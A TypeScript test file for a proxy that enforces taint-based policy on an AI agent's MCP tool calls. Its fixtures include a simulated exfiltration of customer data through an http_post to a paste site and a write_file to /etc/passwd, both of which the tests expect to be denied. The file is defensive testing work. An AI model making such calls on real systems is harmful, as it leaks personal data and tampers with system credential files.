import { test, after, before } from 'node:test';
import assert from 'node:assert/strict';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import { McpError } from '@modelcontextprotocol/sdk/types.js';
import { startHarness, loopback, type Harness } from './helpers.js';
import { startMcpServer, type TestMcpServer } from './mcp-server.js';
import type { Entity } from '../../enforcer/engine/types.js';

let files: TestMcpServer;
let reports: TestMcpServer;
let h: Harness;
let filesProxyPort: number;
let reportsProxyPort: number;

before(async () => {
  files = await startMcpServer('files', {
    read_file: { args: ['path'], impl: (a) => (a.path.includes('customers') ? 'id,name\n1,Alice Doe\n2,Bob Roe\n' : `contents of ${a.path}`) },
    http_post: { args: ['url', 'body'], impl: () => 'posted' },
    weather: { args: ['city'], impl: (a) => `sunny in ${a.city}` },
    write_file: { args: ['path', 'content'], impl: () => 'written' },
  });
  reports = await startMcpServer('reports', { fetch_report: { args: ['report'], impl: (a) => `report ${a.report}: revenue up 4%` } }, { json: true });
  // MCP servers named by alias, and (for this test) allowlisted, so the untrusted-upstream classifier stays quiet.
  const inAllowlisted = (list: Entity[]) =>
    list.map((e) => (e.uid.type === 'MCPServer' ? { ...e, parents: [...e.parents, { type: 'Zone', id: 'allowlisted' }] } : e));
  let routes = new Map<number, number>();
  h = await startHarness({
    listeners: 2,
    tweaks: {
      entities: inAllowlisted,
      config: (c) => {
        c.upstreams = { files: { address: `127.0.0.1:${files.port}`, kind: 'mcp' }, reports: { address: `127.0.0.1:${reports.port}`, kind: 'mcp' } };
      },
    },
    destination: (peer) => {
      const up = routes.get(peer.localPort ?? 0);
      return up ? loopback(up) : null;
    },
  });
  filesProxyPort = h.dp.proxyAddresses[0].port;
  reportsProxyPort = h.dp.proxyAddresses[1].port;
  routes = new Map([
    [filesProxyPort, files.port],
    [reportsProxyPort, reports.port],
  ]);
});

after(async () => {
  await h.close();
  await files.close();
  await reports.close();
});

async function connect(port: number): Promise<{ client: Client; transport: StreamableHTTPClientTransport }> {
  const client = new Client({ name: 'test-agent', version: '1.0.0' });
  const transport = new StreamableHTTPClientTransport(new URL(`http://127.0.0.1:${port}/mcp`));
  await client.connect(transport);
  return { client, transport };
}

const text = (r: unknown) => ((r as { content: Array<{ text: string }> }).content[0].text);

test('the seed sequence through the proxy: read_file ALLOW (PII), fetch_report ALLOW (PII|FINANCIAL), http_post DENY', async () => {
  const f = await connect(filesProxyPort);
  const r = await connect(reportsProxyPort);
  const read = await f.client.callTool({ name: 'read_file', arguments: { path: '/data/customers.csv' } });
  assert.match(text(read), /Alice Doe/);
  assert.equal(h.dp.taint.mask(h.origin.options.facts ? 'spiffe://corp.example/agents/coder' : ''), 0x1n);
  const report = await r.client.callTool({ name: 'fetch_report', arguments: { report: 'q3' } });
  assert.equal(text(report), 'report q3: revenue up 4%');
  assert.equal(h.dp.taint.mask('spiffe://corp.example/agents/coder'), 0x3n);
  await assert.rejects(
    f.client.callTool({ name: 'http_post', arguments: { url: 'https://paste.example/x', body: 'Alice Doe' } }),
    (err: unknown) => err instanceof McpError && err.code === -32600 && /taint-blocks-egress/.test(err.message),
  );
  // The server never saw the denied call.
  assert.deepEqual(files.calls.map((c) => c.tool), ['read_file']);
  // The session keeps working after a denial.
  const again = await f.client.callTool({ name: 'read_file', arguments: { path: '/data/readme.txt' } });
  assert.equal(text(again), 'contents of /data/readme.txt');

  const tools = (await h.events()).filter((e) => e.protocol === 'mcp' && e.action !== 'Action::"mcp_session"');
  assert.deepEqual(
    tools.map((e) => [e.action, e.resource, e.decision, e.policies.join(','), e.taint_before, e.taint_after]),
    [
      ['Action::"read_file"', 'MCPServer::"files"', 'allow', 'read-file-clean', '0x0000000000000000', '0x0000000000000001'],
      ['Action::"fetch_report"', 'MCPServer::"reports"', 'allow', 'read-tools', '0x0000000000000001', '0x0000000000000003'],
      ['Action::"http_post"', 'MCPServer::"files"', 'deny', 'taint-blocks-egress', '0x0000000000000003', '0x0000000000000003'],
      ['Action::"read_file"', 'MCPServer::"files"', 'allow', 'read-file-clean', '0x0000000000000003', '0x0000000000000003'],
    ],
  );
  for (const e of tools) {
    assert.equal(e.spiffe_id, 'spiffe://corp.example/agents/coder');
    assert.equal(e.pid, process.pid);
    assert.equal(typeof e.latency_us, 'number');
    assert.equal(e.watermark, h.snapshots.current!.watermark);
    assert.ok(e.mcp_session, 'MCP decisions carry the session id');
  }
  assert.equal(tools[0].destination, `127.0.0.1:${files.port}`);
  await f.client.close();
  await r.client.close();
});

test('a tool the schema does not name is decided as call_tool (and denied by default)', async () => {
  const f = await connect(filesProxyPort);
  await assert.rejects(f.client.callTool({ name: 'weather', arguments: { city: 'Oslo' } }), (err: unknown) => err instanceof McpError && err.code === -32600);
  const ev = (await h.events()).filter((e) => e.action === 'Action::"call_tool"').at(-1)!;
  assert.equal(ev.decision, 'deny');
  assert.equal(ev.resource, 'MCPServer::"files"');
  await f.client.close();
});

test('tool arguments reach policy projected onto the schema: write_file outside /workspace is denied', async () => {
  // A fresh agent identity would carry no taint; this one is tainted from the seed test, so use reads only.
  const f = await connect(filesProxyPort);
  const list = await f.client.listTools();
  assert.ok(list.tools.some((t) => t.name === 'read_file'), 'tools/list passes through');
  await assert.rejects(f.client.callTool({ name: 'write_file', arguments: { path: '/etc/passwd', content: 'x' } }), McpError);
  const ev = (await h.events()).filter((e) => e.action === 'Action::"write_file"').at(-1)!;
  assert.equal(ev.decision, 'deny');
  await f.client.close();
  assert.equal(await h.settled(), 0);
});
